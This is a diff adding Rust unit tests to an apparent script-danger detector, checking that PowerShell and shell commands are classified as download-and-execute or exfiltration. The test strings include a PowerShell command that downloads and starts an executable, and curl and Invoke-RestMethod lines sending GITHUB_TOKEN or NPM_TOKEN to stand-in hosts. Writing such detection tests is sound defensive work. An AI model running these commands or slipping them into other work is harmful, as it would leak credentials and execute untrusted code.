@@ -567,3 +567,45 @@ fn more_stores_and_decoders() {
         [DangerKind::Exfiltration]
     );
 }
+
+#[test]
+fn powershell_saves_a_download_and_starts_it() {
+    let script =
+        "Invoke-WebRequest -Uri https://cdn.example.net/t.exe -OutFile t.exe\nStart-Process t.exe";
+    let found: Vec<DangerKind> = kinds(script, Dialect::Pwsh)
+        .into_iter()
+        .map(|(k, _)| k)
+        .collect();
+    assert_eq!(found, [DangerKind::DownloadExecute]);
+    // Saved and never started: a download.
+    assert!(
+        kinds(
+            "Invoke-WebRequest -Uri https://cdn.example.net/data.csv -OutFile data.csv\nImport-Csv data.csv",
+            Dialect::Pwsh
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn a_secret_copied_into_a_variable_and_sent_elsewhere_is_a_chain() {
+    assert_eq!(
+        only("T=$GITHUB_TOKEN\ncurl -d \"k=$T\" https://gh-sync.example.net/x"),
+        [DangerKind::Exfiltration]
+    );
+    assert_eq!(
+        only("curl https://npm-helper.example.dev/t?k=$NPM_TOKEN"),
+        [DangerKind::Exfiltration]
+    );
+    let pwsh: Vec<DangerKind> = kinds(
+        "$t = $env:GITHUB_TOKEN\nInvoke-RestMethod -Uri https://gh-sync.example.net/c -Method Post -Body $t",
+        Dialect::Pwsh,
+    )
+    .into_iter()
+    .map(|(k, _)| k)
+    .collect();
+    assert_eq!(pwsh, [DangerKind::Exfiltration]);
+    // To the service its name says it is for, or in a header: used, not stolen.
+    assert!(only("curl -s \"https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage\" -d chat_id=42 -d text=done").is_empty());
+    assert!(only("T=$GITHUB_TOKEN\ncurl -H \"Authorization: token $T\" -d '{}' https://gh-sync.example.net/x").is_empty());
+}
